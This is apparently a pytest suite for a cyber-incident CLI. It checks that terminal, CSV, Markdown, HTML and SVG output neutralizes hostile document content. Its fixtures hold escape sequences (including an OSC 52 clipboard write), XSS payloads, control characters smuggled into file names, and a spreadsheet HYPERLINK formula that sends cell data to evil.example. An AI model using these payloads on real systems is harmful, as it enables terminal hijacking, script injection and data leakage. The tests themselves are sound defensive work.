"""Output defences (docs/security.md): no control sequence from a document reaches a terminal,
no CSV cell is a formula, no Markdown report carries live HTML or a script link.

The articles here are written for this test and carry what a hostile page would: an OSC 0
window title (ESC ] 0; ... BEL), an OSC 52 clipboard write, a CSI screen clear (ESC [2J),
C1 and bidi controls, rich markup, HTML and Markdown script links. Everything is driven
through the real command line (typer's CliRunner); CliRunner's output is not a terminal, so
rich adds no escape codes of its own and any ESC in the output came from a document.
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from rich.panel import Panel
from rich.table import Table
from rich.text import Text
from typer.testing import CliRunner

from cybertrack.cli import app
from cybertrack.textsafe import SafeConsole, csv_cell, json_safe, md_text, safe_href, visible

runner = CliRunner()

ESC, BEL = "\x1b", "\x07"
OSC_TITLE = f"{ESC}]0;PWNED{BEL}"
OSC_CLIP = f"{ESC}]52;c;ZWNobyBwd25lZA=={BEL}"
CLEAR = f"{ESC}[2J"
RLO, CSI8 = "\u202e", "\x9b"
RAW = (ESC, BEL, RLO, CSI8, "\x00", "\x08", "\x7f")

ARTICLE = "\n".join([
    f"Title: Wiper{OSC_TITLE} hits Albania{CLEAR} <script>alert(1)</script>"
    " [x](javascript:alert(1))",
    f"Publisher: [link=https://evil.example]Gazette[/link]{OSC_CLIP}",
    "Published: 2022-09-08",
    "Source: https://example.org/hostile/one",
    "",
    f"Albania's government said on 7 September 2022 that Iranian state hackers{OSC_TITLE} "
    f"carried out a cyberattack{CLEAR} on its e-government services in July 2022 "
    "<img src=x onerror=alert(1)>.",
    "",
    f"Albania cut diplomatic ties with Iran{OSC_CLIP} on 7 September 2022 over the "
    f"cyberattack <iframe src=javascript:alert(1)></iframe>{RLO}.",
    "",
    f"Iran's foreign ministry denied{CSI8} that Iran was behind the cyberattack on Albania "
    "[x](javascript:alert(2)).",
    ""])

SECOND = "\n".join([
    f'Title: =HYPERLINK("https://evil.example/?"&A1,"Albania outage"){BEL}',
    f"Publisher: Second{CLEAR} Wire",
    "Published: 2022-09-09",
    "Source: https://example.org/hostile/two",
    "",
    f"A cyberattack in July 2022 disrupted e-government services in Albania{OSC_TITLE}, "
    "officials said on 8 September 2022. The United States attributed the attack to Iran on "
    "8 September 2022.",
    ""])

NAMED = f"named{ESC}]0;FILENAME{BEL}{ESC}[2J.txt"


def assert_clean(output: str) -> None:
    """No raw control character that a terminal would act on."""
    found = sorted({repr(c) for c in RAW if c in output})
    assert not found, f"raw control characters in output: {found}\n{output[:2000]}"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str, Path]:
    """A folder of hostile inputs, a knowledge base ingested from it through the CLI, and
    the folder itself (the ingest output is checked by its own test)."""
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "one.txt").write_text(ARTICLE, encoding="utf-8")
    (folder / NAMED).write_text(SECOND, encoding="utf-8")
    (folder / f"empty{ESC}]0;EMPTY{BEL}.txt").write_text("", encoding="utf-8")
    db = str(folder.parent / f"{folder.name}.db")
    result = runner.invoke(app, ["ingest", str(folder), "--db", db, "--quiet"])
    assert result.exit_code == 2, result.output  # the empty file fails, the rest is stored
    (folder.parent / f"{folder.name}.ingest.txt").write_text(result.output, encoding="utf-8")
    return folder, db, folder.parent / f"{folder.name}.ingest.txt"


def _incident_id(db: str) -> str:
    result = runner.invoke(app, ["export", "-f", "csv", "--db", db, "-o", db + "-ids"])
    assert result.exit_code == 0, result.output
    with open(db + "-ids/incidents.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    one = [r for r in rows if "hostile/one" in r["document_source"]]
    assert one, rows
    return one[0]["incident_id"]


def test_ingest_echoes_file_names_and_errors_escaped(
        hostile: tuple[Path, str, Path]) -> None:
    _folder, _db, log = hostile
    output = log.read_text(encoding="utf-8")
    assert_clean(output)
    failed = [line for line in output.splitlines() if line.startswith("failed ")]
    assert len(failed) == 1 and "empty\\x1b]0;EMPTY" in failed[0], output


def test_failed_line_on_a_terminal() -> None:
    """On a real terminal rich colours the label, but the name stays inert: no OSC, no CSI
    other than colour (SGR), and "[link=...]" in a name is text, not a hyperlink."""
    bad = f"/data/[link=https://evil.example]x[/link]{ESC}]0;T{BEL}.txt"
    from cybertrack.cli.data import _failed_line

    buf = io.StringIO()
    SafeConsole(file=buf, force_terminal=True, markup=False).print(
        _failed_line(bad, "empty file"))
    out = re.sub(r"\x1b\[[0-9;]*m", "", buf.getvalue())  # rich's own colours
    assert_clean(out)
    assert "[link=https://evil.example]" in out and "\x1b]8;" not in buf.getvalue()


@pytest.mark.parametrize("args", [
    ["incidents"], ["firsts"], ["reach", "Iran"], ["timeline", "--actor", "Iran"],
    ["timeline", "--pair", "Iran", "Albania"], ["link", "list"], ["actor", "APT34"],
    ["country", "Albania"], ["reach", "Iran", "--format", "md"],
    ["firsts", "--format", "json"], ["link", "list", "--format", "html"],
])
def test_kb_commands_print_no_control_sequences(hostile: tuple[Path, str, Path],
                                                args: list[str]) -> None:
    _folder, db, _log = hostile
    result = runner.invoke(app, [*args, "--db", db] if args[0] != "country" else args)
    assert result.exit_code == 0, result.output
    assert_clean(result.output)


def test_incident_and_timeline_show_controls_as_visible_escapes(
        hostile: tuple[Path, str, Path]) -> None:
    _folder, db, _log = hostile
    inc = _incident_id(db)
    for args in (["incident", inc], ["timeline", "--incident", inc], ["incidents"]):
        result = runner.invoke(app, [*args, "--db", db])
        assert result.exit_code == 0, result.output
        assert_clean(result.output)
        assert "\\x1b" in result.output, args  # the reader sees something was there
    wide = runner.invoke(app, ["incidents", "--db", db], env={"COLUMNS": "400"}).output
    assert "[link=https://evil.example]Gazette[/link]" in wide  # markup in a document is text


def test_error_lines_escape_user_input(hostile: tuple[Path, str, Path]) -> None:
    _folder, db, _log = hostile
    for args in (["country", f"Nowhere{OSC_TITLE}"], ["incident", f"zz{CLEAR}", "--db", db],
                 ["reach", f"Nobody{OSC_CLIP}", "--db", db]):
        result = runner.invoke(app, args)
        assert result.exit_code != 0
        assert_clean(result.output)


def test_extract_text_and_jsonl(hostile: tuple[Path, str, Path]) -> None:
    folder, _db, _log = hostile
    text = runner.invoke(app, ["extract", str(folder / "one.txt"), str(folder / NAMED)])
    assert text.exit_code == 0, text.output
    assert_clean(text.output)
    assert "\\x1b]0;PWNED" in text.output
    jsonl = runner.invoke(app, ["extract", str(folder / "one.txt"), "--format", "jsonl"])
    assert jsonl.exit_code == 0, jsonl.output
    assert_clean(jsonl.output)
    record = json.loads(jsonl.output)
    assert OSC_TITLE in record["title"]  # the data is kept exactly, only its printing is safe
    assert any(RLO in (a.get("sentence") or "") or RLO in (r.get("sentence") or "")
               for a in record["attributions"] for r in [*record["responses"], {}])


def test_eval_misses_print_no_control_sequences(hostile: tuple[Path, str, Path],
                                                tmp_path: Path) -> None:
    folder, _db, _log = hostile
    jsonl = runner.invoke(app, ["extract", str(folder / "one.txt"), "--format", "jsonl"])
    record = json.loads(jsonl.output)
    gold = dict(record, entities=[*record["entities"],
                                  {"name": f"Kitten{OSC_TITLE}{CLEAR}", "kind": "threat-actor"}])
    (tmp_path / "gold.jsonl").write_text(json.dumps(gold) + "\n", encoding="utf-8")
    (tmp_path / "pred.jsonl").write_text(json.dumps(record) + "\n", encoding="utf-8")
    for extra in ([], ["--json"]):
        result = runner.invoke(app, ["eval", str(tmp_path / "gold.jsonl"), "--predictions",
                                     str(tmp_path / "pred.jsonl"), "--misses", "5", *extra])
        assert result.exit_code == 0, result.output
        assert_clean(result.output)
        assert "Kitten" in result.output


def test_markdown_report_is_inert(hostile: tuple[Path, str, Path]) -> None:
    _folder, db, _log = hostile
    inc = _incident_id(db)
    for args in (["incident", inc], ["timeline", "--incident", inc], ["reach", "Iran"],
                 ["firsts"], ["link", "list"]):
        result = runner.invoke(app, [*args, "--db", db, "--format", "md"])
        assert result.exit_code == 0, result.output
        md = result.output
        assert_clean(md)
        # Rendered as CommonMark with raw HTML allowed, nothing active comes out.
        rendered = MarkdownIt("commonmark").render(md).lower()
        for bad in ("<script", "<img", "<iframe", "href=\"javascript:", "src=\"javascript:",
                    "href=\"data:", "href=\"vbscript:"):
            assert bad not in rendered, (args, bad)
        if args[0] == "incident":
            assert "&lt;script&gt;" in md and "\\[x\\](javascript:alert(1))" in md


def test_html_report_escapes_everything(hostile: tuple[Path, str, Path]) -> None:
    _folder, db, _log = hostile
    inc = _incident_id(db)
    result = runner.invoke(app, ["incident", inc, "--db", db, "--format", "html"])
    assert result.exit_code == 0, result.output
    page = result.output
    assert_clean(page)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    for bad in ("<script", "<img", "<iframe"):
        assert bad not in page.lower()


def test_json_report_keeps_the_text_and_prints_no_controls(
        hostile: tuple[Path, str, Path]) -> None:
    _folder, db, _log = hostile
    inc = _incident_id(db)
    result = runner.invoke(app, ["incident", inc, "--db", db, "--format", "json"])
    assert result.exit_code == 0, result.output
    assert_clean(result.output)
    assert OSC_TITLE in json.loads(result.output)["title"]


def test_chart_svg_is_well_formed_xml(hostile: tuple[Path, str, Path], tmp_path: Path) -> None:
    _folder, db, _log = hostile
    inc = _incident_id(db)
    charts = tmp_path / "charts"
    for args in (["incident", inc], ["timeline", "--actor", "Iran"], ["reach", "Iran"]):
        result = runner.invoke(app, [*args, "--db", db, "--charts", str(charts), "--format",
                                     "md", "-o", str(tmp_path / "r.md")])
        assert result.exit_code == 0, result.output
    svgs = list(charts.glob("*.svg"))
    assert svgs
    for svg in svgs:
        ET.parse(svg)  # raises on a control character
        assert ESC not in svg.read_text(encoding="utf-8")


def test_chart_labels_with_c0_and_mathtext(tmp_path: Path) -> None:
    """A title with ESC, other C0 controls, a bidi override and broken mathtext still gives
    a well-formed SVG (and a PNG)."""
    from cybertrack.analysis.timeline import Timeline, TimelineEvent
    from cybertrack.model import PartialDate
    from cybertrack.report.charts import timeline_chart

    title = f"Wiper{ESC}]0;x{BEL}\x01\x02\x0b\x0c costs $x^$ {RLO}title"
    events = (TimelineEvent(PartialDate.parse("2022-07-15"), "incident", f"actor{BEL}",
                            f"event{CLEAR}", ("src",)),
              TimelineEvent(PartialDate.parse("2022-09-07"), "response", f"Albania{ESC}",
                            "severed ties", ("src",)))
    paths = timeline_chart(Timeline(title, events), tmp_path, "t")
    assert sorted(p.suffix for p in paths) == [".png", ".svg"]
    svg = next(p for p in paths if p.suffix == ".svg")
    assert ET.parse(svg).getroot().tag.endswith("svg")
    assert "costs $x^$" in svg.read_text(encoding="utf-8")


def test_csv_export_neutralizes_formulas(hostile: tuple[Path, str, Path],
                                         tmp_path: Path) -> None:
    _folder, db, _log = hostile
    out = tmp_path / "tables"
    result = runner.invoke(app, ["export", "-f", "csv", "--db", db, "-o", str(out)])
    assert result.exit_code == 0, result.output
    cells: list[str] = []
    for path in out.glob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                cells += row
    assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Albania outage\")" in {
        c.replace(BEL, "") for c in cells}
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    with (out / "incidents.csv").open(encoding="utf-8-sig", newline="") as fh:
        for row in csv.DictReader(fh):
            assert row["attributions"].isdigit()  # counts stay numbers


def test_csv_cell_rule() -> None:
    for raw in ("=1+1", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "=HYPERLINK(\"x\")"):
        assert csv_cell(raw) == "'" + raw
    for keep in ("Albania", "", "2022-07", " =x", "'=already"):
        assert csv_cell(keep) == keep
    assert csv_cell(-3) == -3 and csv_cell(-0.5) == -0.5


def test_sanitizer_and_console_cover_any_renderable() -> None:
    bad = f"a{OSC_TITLE}b{OSC_CLIP}c{CLEAR}d{RLO}e{CSI8}f\x00g\x7fh\ti\nj"
    assert visible(bad) == ("a\\x1b]0;PWNED\\x07b\\x1b]52;c;ZWNobyBwd25lZA==\\x07c\\x1b[2J"
                            "d\\u202ee\\x9bf\\x00g\\x7fh\ti\nj")
    # A renderer written later, on a terminal, in every rich shape: only rich's own colours.
    buf = io.StringIO()
    console = SafeConsole(file=buf, force_terminal=True, width=100)
    table = Table("col", title=bad)
    table.add_row(bad)
    table.add_row(Text(bad, style="bold"))
    console.print(bad)
    console.print(Panel(Text(bad), title=bad))
    console.print(table)
    console.rule(bad)
    console.print(Text.assemble(("x", "red"), bad))
    out = re.sub(r"\x1b\[[0-9;]*m", "", buf.getvalue())
    assert_clean(out)
    assert "\\x1b]0;PWNED" in out


def test_json_md_and_href_helpers() -> None:
    text = json.dumps({"t": f"x{ESC}{RLO}{CSI8}\x7f"}, ensure_ascii=False)
    safe = json_safe(text)
    assert_clean(safe) if ESC not in text else None
    assert json.loads(safe) == json.loads(text)
    assert not any(c in safe for c in (RLO, CSI8, "\x7f"))
    md = md_text("<b>x</b> & [y](javascript:z) ![i](data:x) `c` *e* |")
    assert md == ("&lt;b&gt;x&lt;/b&gt; &amp; \\[y\\](javascript:z) !\\[i\\](data:x) "
                  "\\`c\\` \\*e\\* \\|")
    assert md_text("# heading", line=True) == "\\# heading"
    for bad in ("javascript:alert(1)", " JaVaScRiPt:x", "java\tscript:x", "data:text/html,x",
                "vbscript:x", "\x01javascript:x"):
        assert safe_href(bad) == "#", bad
    assert safe_href("charts/a (1).png") == "charts/a%20%281%29.png"
